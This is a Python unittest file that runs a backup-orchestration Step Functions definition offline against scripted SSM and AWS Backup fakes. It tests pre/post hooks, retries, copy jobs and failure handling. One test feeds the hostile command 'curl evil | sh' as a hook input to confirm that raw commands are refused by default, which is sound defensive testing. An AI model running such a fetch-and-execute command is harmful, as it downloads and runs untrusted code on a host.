"""Runs the template's state machine in an Amazon States Language interpreter, offline.

The interpreter is moto's port of LocalStack's Step Functions engine; the AWS SDK tasks it
calls (ssm:sendCommand, ssm:getCommandInvocation, backup:startBackupJob,
backup:describeBackupJob) are answered by scripted fakes. Every request a task sends is
validated against botocore's service model for that operation, so a wrong parameter name or
type in the definition fails here as it would fail against AWS.

What this proves: the definition parses, its intrinsic functions and paths evaluate, and its
branches do what the README (Deploying) promises (hooks, post command after a failed backup, the
error names the daemon reports, BackupJobId at the top level of the output). What it cannot
prove: IAM, and the exact error names AWS gives SDK-integration failures (the interpreter's
naming is patched to AWS's documented `ServiceName.ExceptionName` form).

Run: .venv-deploy/bin/python -m unittest discover -s deploy/tests -v   (deploy/validate.sh does)
"""

from __future__ import annotations

import json
import logging
import os
import re
import time
import unittest
from datetime import timezone
from pathlib import Path

import boto3
import botocore.session
from botocore.exceptions import ClientError
from botocore.validate import ParamValidator
from cfnlint.decode import cfn_yaml
from moto import mock_aws
from moto.stepfunctions.parser.asl.component.state.exec.state_task.service import (
    state_task_service_aws_sdk as aws_sdk_task,
)
from moto.stepfunctions.parser.backend import execution_worker

TEMPLATE = Path(__file__).resolve().parents[1] / "cloudformation" / "orchestrator.yaml"
REGION = "us-east-1"
ACCOUNT = "123456789012"
INSTANCE_ID = "i-0123456789abcdef0"
RESOURCE_ARN = f"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/{INSTANCE_ID}"
VAULT = "orchestrator"
BACKUP_ROLE = f"arn:aws:iam::{ACCOUNT}:role/orchestrator-BackupRole"
SUBSTITUTIONS = {
    "BackupVaultName": VAULT,
    "BackupRoleArn": BACKUP_ROLE,
    "DefaultStartWindowMinutes": "60",
    "DefaultCompleteWindowMinutes": "10080",
    "DefaultDeleteAfterDays": "35",
    "CommandTimeoutSeconds": "600",
    "HookDocumentPrefix": "orchestrator-",
    "AllowRawCommands": "false",
}
DOCUMENT = "orchestrator-systemd-unit"

# The interpreter logs every caught error as a warning: the scenarios cause many on purpose.
logging.getLogger("moto").setLevel(logging.CRITICAL)

# AWS names SDK-integration errors `ServiceName.ExceptionName` (PascalCase service name).
aws_sdk_task._SERVICE_ERROR_NAMES.update({"ssm": "Ssm", "backup": "Backup"})

# In AWS the context object's $$.Execution.StartTime is an ISO 8601 string; the interpreter
# holds a datetime there.
_ExecutionData = execution_worker.ExecutionData


def _execution_data_as_in_aws(**fields):
    start = fields["StartTime"]
    if not isinstance(start, str):
        fields["StartTime"] = start.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
    return _ExecutionData(**fields)


execution_worker.ExecutionData = _execution_data_as_in_aws

_BOTOCORE = botocore.session.get_session()
_VALIDATOR = ParamValidator()


def definition_json(fast: bool = True, **overrides: str) -> str:
    """The template's definition with DefinitionSubstitutions applied, as CloudFormation does.

    With `fast`, waits become 0 s and retry intervals 1 s so the scenarios run in seconds;
    `overrides` replace substitution values (stack parameters).
    """
    substitutions = {**SUBSTITUTIONS, **overrides}
    template = cfn_yaml.load(str(TEMPLATE))
    props = template["Resources"]["BackupStateMachine"]["Properties"]
    assert set(props["DefinitionSubstitutions"]) == set(SUBSTITUTIONS), props["DefinitionSubstitutions"]
    definition = json.loads(json.dumps(props["Definition"]))
    if fast:
        def quicken(states: dict) -> None:
            for state in states.values():
                if state["Type"] == "Wait":
                    state["Seconds"] = 0
                for retrier in state.get("Retry", []):
                    retrier["IntervalSeconds"] = 1
                    retrier["BackoffRate"] = 1.0
                    retrier.pop("JitterStrategy", None)
                if state["Type"] == "Map":
                    quicken(state["ItemProcessor"]["States"])

        quicken(definition["States"])
    text = json.dumps(definition)
    unknown = set(re.findall(r"\$\{([^}]+)\}", text)) - set(substitutions)
    assert not unknown, f"placeholders without a substitution: {unknown}"
    return re.sub(r"\$\{([^}]+)\}", lambda m: substitutions[m.group(1)], text)


class AwsError(ClientError):
    """A service error; subclasses are named like the modelled exception."""

    def __init__(self, message: str):
        super().__init__({"Error": {"Code": type(self).__name__, "Message": message},
                          "ResponseMetadata": {"HTTPStatusCode": 400, "RequestId": "req"}},
                         "call")


class InvocationDoesNotExistException(AwsError):
    pass


class InvalidParameterValueException(AwsError):
    pass


class AccessDeniedException(AwsError):
    pass


DR = f"arn:aws:backup:us-west-2:{ACCOUNT}:backup-vault:dr"
DR2 = "arn:aws:backup:eu-west-1:210987654321:backup-vault:dr"
RECOVERY_POINT = f"arn:aws:ec2:{REGION}::image/ami-0123"


def copy_to(*destinations: tuple[str, int]) -> list[dict]:
    """The CopyTo member as the daemon sends it (src/copies.rs)."""
    return [{"DestinationBackupVaultArn": arn, "Lifecycle": {"DeleteAfterDays": days},
             "IdempotencyToken": f"copy-{i}"} for i, (arn, days) in enumerate(destinations)]


class Fake:
    """Scripted answers for one scenario; records every call (operation, params)."""

    def __init__(self, *, pre=("Success",), post=("Success",), job_states=("RUNNING", "COMPLETED"),
                 start_error=None, invocation_missing_once=False, refuse_copies_to=()):
        self.calls: list[tuple[str, dict]] = []
        self.commands: dict[str, list[str]] = {}
        self.statuses = {"pre": list(pre), "post": list(post)}
        self.job_states = list(job_states)
        self.start_error = start_error
        self.invocation_missing_once = invocation_missing_once
        self.refuse_copies_to = set(refuse_copies_to)

    def client(self, service: str):
        fake = self
        model = _BOTOCORE.get_service_model(service)

        class Client:
            def __getattr__(self, snake: str):
                op = next(o for o in model.operation_names if _snake(o) == snake)

                def call(**params):
                    report = _VALIDATOR.validate(params, model.operation_model(op).input_shape)
                    if report.has_errors():
                        raise AssertionError(f"{service}:{op} request rejected by the model:\n"
                                             f"{report.generate_report()}\n{params}")
                    fake.calls.append((op, params))
                    return getattr(fake, snake)(**params)

                return call

        return Client()

    def send_command(self, **p):
        kind = p["Comment"].rsplit(" ", 1)[1]
        command_id = f"{kind:0>4}cafe-0000-4000-8000-000000000000"  # a UUID, as SSM's
        self.commands[command_id] = [kind] + self.statuses[kind]
        return {"Command": {"CommandId": command_id, "DocumentName": p["DocumentName"]}}

    def get_command_invocation(self, **p):
        if self.invocation_missing_once:
            self.invocation_missing_once = False
            raise InvocationDoesNotExistException("not yet")
        script = self.commands[p["CommandId"]]
        status = script.pop(1) if len(script) > 2 else script[1]
        return {"CommandId": p["CommandId"], "InstanceId": p["InstanceId"], "Status": status,
                "StatusDetails": status, "ResponseCode": 0 if status == "Success" else 1,
                "StandardOutputContent": "", "StandardErrorContent": "" if status == "Success" else "boom"}

    def start_backup_job(self, **p):
        if self.start_error:
            raise self.start_error
        return {"BackupJobId": "job-1", "CreationDate": "2026-11-29T10:00:01Z", "IsParent": False,
                "RecoveryPointArn": f"arn:aws:ec2:{REGION}::image/ami-0123"}

    def describe_backup_job(self, **p):
        assert p["BackupJobId"] == "job-1"
        state = self.job_states.pop(0) if len(self.job_states) > 1 else self.job_states[0]
        return {"BackupJobId": "job-1", "State": state, "RecoveryPointArn": RECOVERY_POINT}

    def start_copy_job(self, **p):
        if p["DestinationBackupVaultArn"] in self.refuse_copies_to:
            raise AccessDeniedException("not authorized to perform backup:CopyIntoBackupVault")
        return {"CopyJobId": "copy-job-" + p["IdempotencyToken"], "CreationDate": "2026-11-29T10:10:00Z",
                "IsParent": False}

    def ops(self) -> list[str]:
        return [op for op, _ in self.calls]


def _snake(name: str) -> str:
    return re.sub(r"(?<!^)(?=[A-Z])", "_", name).lower()


def document(action: str) -> dict:
    """A document hook as the daemon sends it (SendCommand's shapes)."""
    return {"Name": DOCUMENT, "Version": "$DEFAULT",
            "Parameters": {"action": [action], "unit": ["postgresql.service"]}}


def full_input(**overrides) -> dict:
    value = {"ResourceArn": RESOURCE_ARN, "Target": "web-1", "ScheduledFor": "2026-11-29T10:00:00Z",
             "Trigger": "schedule", "StartWindowMinutes": 120, "CompleteWindowMinutes": 1440,
             "DeleteAfterDays": 7}
    value.update(overrides)
    return {k: v for k, v in value.items() if v is not None}


class StateMachineTest(unittest.TestCase):
    definition = definition_json()

    def run_machine(self, fake: Fake, execution_input: dict, name: str = "web-1-20261129T100000Z",
                    definition: str | None = None):
        original = aws_sdk_task.boto_client_for
        aws_sdk_task.boto_client_for = lambda region, service, state_credentials=None: fake.client(service)
        try:
            with mock_aws(config={"stepfunctions": {"execute_state_machine": True}}):
                sfn = boto3.client("stepfunctions", region_name=REGION)
                arn = sfn.create_state_machine(
                    name="orchestrator-backup", definition=definition or self.definition,
                    roleArn=f"arn:aws:iam::{ACCOUNT}:role/sm")["stateMachineArn"]
                execution = sfn.start_execution(stateMachineArn=arn, name=name,
                                                input=json.dumps(execution_input))["executionArn"]
                deadline = time.monotonic() + 120
                while True:
                    desc = sfn.describe_execution(executionArn=execution)
                    if desc["status"] != "RUNNING":
                        return desc
                    self.assertLess(time.monotonic(), deadline, "execution did not finish")
                    time.sleep(0.05)
        finally:
            aws_sdk_task.boto_client_for = original

    def start_params(self, fake: Fake) -> dict:
        (params,) = [p for op, p in fake.calls if op == "StartBackupJob"]
        return params

    def test_plain_backup_output_is_the_start_backup_job_response(self):
        fake = Fake()
        desc = self.run_machine(fake, full_input())
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        self.assertEqual(fake.ops(), ["StartBackupJob"])
        output = json.loads(desc["output"])
        self.assertEqual(output["BackupJobId"], "job-1")
        self.assertEqual(self.start_params(fake), {
            "BackupVaultName": VAULT, "IamRoleArn": BACKUP_ROLE, "ResourceArn": RESOURCE_ARN,
            "IdempotencyToken": "web-1-20261129T100000Z", "StartWindowMinutes": 120,
            "CompleteWindowMinutes": 1440, "Lifecycle": {"DeleteAfterDays": 7},
            "BackupOptions": {},
            "RecoveryPointTags": {"orchestrator:execution": "web-1-20261129T100000Z",
                                  "orchestrator:target": "web-1",
                                  "orchestrator:scheduled-for": "2026-11-29T10:00:00Z",
                                  "orchestrator:trigger": "schedule",
                                  "orchestrator:app-consistent": "false"}})

    def test_hand_started_execution_gets_the_stack_defaults(self):
        fake = Fake()
        desc = self.run_machine(fake, {"ResourceArn": RESOURCE_ARN}, name="by-hand")
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        params = self.start_params(fake)
        self.assertEqual((params["StartWindowMinutes"], params["CompleteWindowMinutes"],
                          params["Lifecycle"]), (60, 10080, {"DeleteAfterDays": 35}))
        self.assertEqual(params["RecoveryPointTags"]["orchestrator:trigger"], "manual")
        self.assertEqual(params["RecoveryPointTags"]["orchestrator:target"], "by-hand")
        self.assertRegex(params["RecoveryPointTags"]["orchestrator:scheduled-for"],
                         r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$")
        self.assertEqual(params["IdempotencyToken"], "by-hand")

    raw_definition = definition_json(AllowRawCommands="true")

    def test_raw_commands_run_around_the_backup_when_the_stack_allows_them(self):
        fake = Fake(pre=("InProgress", "Success"), post=("Pending", "Success"),
                    job_states=("CREATED", "RUNNING", "COMPLETED"), invocation_missing_once=True)
        desc = self.run_machine(fake, full_input(PreCommand="systemctl stop app",
                                                 PostCommand="systemctl start app",
                                                 PostHookWhen="completed"),
                                definition=self.raw_definition)
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        self.assertEqual(fake.ops(), ["SendCommand", "GetCommandInvocation", "GetCommandInvocation",
                                      "GetCommandInvocation", "StartBackupJob", "DescribeBackupJob", "DescribeBackupJob",
                                      "DescribeBackupJob", "SendCommand", "GetCommandInvocation",
                                      "GetCommandInvocation"])
        pre = fake.calls[0][1]
        self.assertEqual(pre["DocumentName"], "AWS-RunShellScript")
        self.assertEqual(pre["InstanceIds"], [INSTANCE_ID])
        self.assertEqual(pre["Parameters"], {"commands": ["systemctl stop app"], "executionTimeout": ["600"]})
        self.assertEqual(fake.calls[8][1]["Parameters"]["commands"], ["systemctl start app"])
        output = json.loads(desc["output"])
        self.assertEqual(output["BackupJobId"], "job-1")
        self.assertEqual(output["BackupJob"], {"State": "COMPLETED"})
        self.assertEqual((output["PreHook"]["Status"], output["PostHook"]["Status"]),
                         ("Success", "Success"))

    def test_raw_commands_are_refused_by_default_before_anything_is_sent(self):
        for member in ("PreCommand", "PostCommand"):
            fake = Fake()
            desc = self.run_machine(fake, full_input(**{member: "curl evil | sh"}))
            self.assertEqual(desc["status"], "FAILED", desc)
            self.assertEqual(desc["error"], "PreCommandFailed")
            self.assertIn("AllowRawCommands", desc["cause"])
            self.assertEqual(fake.ops(), [], "no SendCommand, no backup")

    def test_document_hooks_are_sent_with_exactly_their_parameters(self):
        fake = Fake(job_states=("CREATED", "RUNNING", "COMPLETED"))
        pre = document("stop")
        pre["Version"] = "3"
        desc = self.run_machine(fake, full_input(PreDocument=pre, PostDocument=document("start")))
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        sends = [p for op, p in fake.calls if op == "SendCommand"]
        self.assertEqual(len(sends), 2)
        self.assertEqual(sends[0], {
            "DocumentName": DOCUMENT, "DocumentVersion": "3", "InstanceIds": [INSTANCE_ID],
            "Comment": "web-1-20261129T100000Z pre",
            "Parameters": {"action": ["stop"], "unit": ["postgresql.service"]}})
        self.assertEqual(sends[1]["Parameters"], {"action": ["start"], "unit": ["postgresql.service"]})
        self.assertEqual(sends[1]["DocumentVersion"], "$DEFAULT")
        tags = self.start_params(fake)["RecoveryPointTags"]
        self.assertEqual(tags["orchestrator:app-consistent"], "true")

    def test_a_document_outside_the_prefix_fails_before_any_send_command(self):
        for member in ("PreDocument", "PostDocument"):
            fake = Fake()
            doc = document("stop")
            doc["Name"] = "AWS-RunShellScript"
            desc = self.run_machine(fake, full_input(**{member: doc}))
            self.assertEqual(desc["status"], "FAILED", desc)
            self.assertEqual(desc["error"], "PreCommandFailed")
            self.assertIn("orchestrator-", desc["cause"])
            self.assertEqual(fake.ops(), [], f"{member}: nothing sent, no backup")

    def test_post_hook_runs_as_soon_as_the_job_has_left_created(self):
        fake = Fake(job_states=("CREATED", "CREATED", "RUNNING", "COMPLETED"))
        desc = self.run_machine(fake, full_input(PreDocument=document("stop"),
                                                 PostDocument=document("start")))
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        ops = fake.ops()
        after_start = ops[ops.index("StartBackupJob") + 1:]
        self.assertEqual(after_start, ["DescribeBackupJob"] * 3 + ["SendCommand", "GetCommandInvocation"],
                         "the post hook follows the first poll that saw RUNNING, not COMPLETED")
        output = json.loads(desc["output"])
        self.assertEqual(output["BackupJob"], {"State": "RUNNING"})
        self.assertNotIn("DowntimeCapped", output)

    def test_post_hook_when_completed_waits_for_the_end_of_the_job(self):
        fake = Fake(job_states=("CREATED", "RUNNING", "RUNNING", "COMPLETED"))
        desc = self.run_machine(fake, full_input(PostDocument=document("start"), PostHookWhen="completed"))
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        self.assertEqual(fake.ops().count("DescribeBackupJob"), 4)
        self.assertEqual(json.loads(desc["output"])["BackupJob"], {"State": "COMPLETED"})

    def test_a_job_stuck_in_created_gets_the_post_hook_at_the_downtime_cap(self):
        fake = Fake(job_states=("CREATED",))
        desc = self.run_machine(fake, full_input(PreDocument=document("stop"), PostDocument=document("start"),
                                                 HookMaxDowntimeSeconds=30))
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        self.assertEqual(fake.ops().count("DescribeBackupJob"), 3, "30 s cap / 10 s polls")
        self.assertEqual(fake.ops()[-2:], ["SendCommand", "GetCommandInvocation"])
        output = json.loads(desc["output"])
        self.assertEqual((output["DowntimeCapped"], output["BackupJob"]["State"]), (True, "CREATED"))

    def test_failed_pre_hook_backs_up_crash_consistent_by_default_and_runs_the_post_hook(self):
        fake = Fake(pre=("Failed",), job_states=("RUNNING",))
        desc = self.run_machine(fake, full_input(PreDocument=document("stop"), PostDocument=document("start")))
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        self.assertEqual(self.start_params(fake)["RecoveryPointTags"]["orchestrator:app-consistent"], "false")
        self.assertEqual(fake.ops().count("SendCommand"), 2)
        self.assertEqual(json.loads(desc["output"])["PreHook"]["Status"], "Failed")

    def test_failed_pre_hook_with_skip_means_no_backup_but_the_post_hook_runs(self):
        fake = Fake(pre=("Failed",))
        desc = self.run_machine(fake, full_input(PreDocument=document("stop"), PostDocument=document("start"),
                                                 OnPreHookFailure="skip"))
        self.assertEqual(desc["status"], "FAILED", desc)
        self.assertEqual(desc["error"], "PreCommandFailed")
        self.assertIn("Failed", desc["cause"])
        self.assertIn("skip", desc["cause"])
        self.assertNotIn("StartBackupJob", fake.ops())
        sends = [p for op, p in fake.calls if op == "SendCommand"]
        self.assertEqual([p["Parameters"]["action"] for p in sends], [["stop"], ["start"]])

    def test_windows_vss_reaches_start_backup_job(self):
        fake = Fake()
        desc = self.run_machine(fake, full_input(BackupOptions={"WindowsVSS": "enabled"}))
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        self.assertEqual(self.start_params(fake)["BackupOptions"], {"WindowsVSS": "enabled"})

    def test_failed_backup_job_still_runs_the_post_command(self):
        fake = Fake(job_states=("RUNNING", "FAILED"))
        desc = self.run_machine(fake, full_input(PreCommand="true", PostCommand="systemctl start app",
                                                 PostHookWhen="completed"),
                                definition=self.raw_definition)
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        self.assertEqual(fake.ops()[-2:], ["SendCommand", "GetCommandInvocation"])
        output = json.loads(desc["output"])
        self.assertEqual((output["BackupJobId"], output["BackupJob"]["State"]), ("job-1", "FAILED"))

    def test_post_command_runs_when_start_backup_job_fails_and_the_error_is_kept(self):
        fake = Fake(start_error=InvalidParameterValueException("bad window"))
        desc = self.run_machine(fake, full_input(PreDocument=document("stop"), PostDocument=document("start")))
        self.assertEqual(desc["status"], "FAILED", desc)
        self.assertEqual(desc["error"], "StartBackupJobFailed")
        self.assertEqual(json.loads(desc["cause"])["Error"], "Backup.InvalidParameterValueException")
        self.assertEqual(fake.ops().count("StartBackupJob"), 4, "3 retries, with the same token")
        self.assertEqual({p["IdempotencyToken"] for op, p in fake.calls if op == "StartBackupJob"},
                         {"web-1-20261129T100000Z"})
        self.assertEqual(fake.ops()[-2:], ["SendCommand", "GetCommandInvocation"])

    def test_failed_post_command_is_reported_even_when_the_backup_completed(self):
        fake = Fake(post=("InProgress", "Failed"))
        desc = self.run_machine(fake, full_input(PostDocument=document("start")))
        self.assertEqual(desc["status"], "FAILED", desc)
        self.assertEqual(desc["error"], "PostCommandFailed")
        self.assertIn("job-1", desc["cause"])
        self.assertEqual(fake.ops()[0], "StartBackupJob")

    def copy_calls(self, fake: Fake) -> list[dict]:
        return [p for op, p in fake.calls if op == "StartCopyJob"]

    def test_copies_to_two_destinations_once_the_backup_completed(self):
        fake = Fake(job_states=("RUNNING", "COMPLETED"))
        desc = self.run_machine(fake, full_input(CopyTo=copy_to((DR, 90), (DR2, 365))))
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        self.assertEqual(fake.ops()[:4], ["StartBackupJob", "DescribeBackupJob", "DescribeBackupJob",
                                          "DescribeBackupJob"], "the job wait, then its recovery point")
        calls = sorted(self.copy_calls(fake), key=lambda p: p["IdempotencyToken"])
        self.assertEqual(calls, [
            {"RecoveryPointArn": RECOVERY_POINT, "SourceBackupVaultName": VAULT,
             "DestinationBackupVaultArn": DR, "IamRoleArn": BACKUP_ROLE, "IdempotencyToken": "copy-0",
             "Lifecycle": {"DeleteAfterDays": 90}},
            {"RecoveryPointArn": RECOVERY_POINT, "SourceBackupVaultName": VAULT,
             "DestinationBackupVaultArn": DR2, "IamRoleArn": BACKUP_ROLE, "IdempotencyToken": "copy-1",
             "Lifecycle": {"DeleteAfterDays": 365}}])
        output = json.loads(desc["output"])
        self.assertEqual(output["BackupJobId"], "job-1")
        self.assertEqual(output["Copies"], [
            {"DestinationBackupVaultArn": DR, "CopyJobId": "copy-job-copy-0"},
            {"DestinationBackupVaultArn": DR2, "CopyJobId": "copy-job-copy-1"}])

    def test_a_failed_backup_starts_no_copy(self):
        for state in ("FAILED", "EXPIRED", "ABORTED", "PARTIAL"):
            fake = Fake(job_states=("RUNNING", state))
            desc = self.run_machine(fake, full_input(CopyTo=copy_to((DR, 90))))
            self.assertEqual(desc["status"], "SUCCEEDED", desc)
            self.assertNotIn("StartCopyJob", fake.ops(), state)
            output = json.loads(desc["output"])
            self.assertNotIn("Copies", output)
            self.assertEqual(output["BackupJob"]["State"], state)

    def test_a_refused_start_copy_job_is_that_destination_s_result_not_the_execution_s(self):
        fake = Fake(job_states=("COMPLETED",), refuse_copies_to=(DR2,))
        desc = self.run_machine(fake, full_input(CopyTo=copy_to((DR, 90), (DR2, 365))))
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        refused = [p for p in self.copy_calls(fake) if p["DestinationBackupVaultArn"] == DR2]
        self.assertEqual(len(refused), 4, "3 retries")
        self.assertEqual({p["IdempotencyToken"] for p in refused}, {"copy-1"}, "one token: never two copies")
        copies = json.loads(desc["output"])["Copies"]
        self.assertEqual(copies[0], {"DestinationBackupVaultArn": DR, "CopyJobId": "copy-job-copy-0"})
        self.assertEqual(copies[1]["DestinationBackupVaultArn"], DR2)
        self.assertEqual(copies[1]["Error"], "Backup.AccessDeniedException")
        self.assertIn("CopyIntoBackupVault", copies[1]["Cause"])

    def test_copies_follow_a_post_hook_that_ran_when_the_job_started(self):
        fake = Fake(job_states=("CREATED", "RUNNING", "RUNNING", "COMPLETED"))
        desc = self.run_machine(fake, full_input(PostDocument=document("start"), CopyTo=copy_to((DR, 90))))
        self.assertEqual(desc["status"], "SUCCEEDED", desc)
        ops = fake.ops()
        self.assertLess(ops.index("SendCommand"), ops.index("StartCopyJob"))
        self.assertEqual(ops[-2:], ["DescribeBackupJob", "StartCopyJob"])
        self.assertEqual(json.loads(desc["output"])["Copies"][0]["CopyJobId"], "copy-job-copy-0")


if __name__ == "__main__":
    unittest.main()
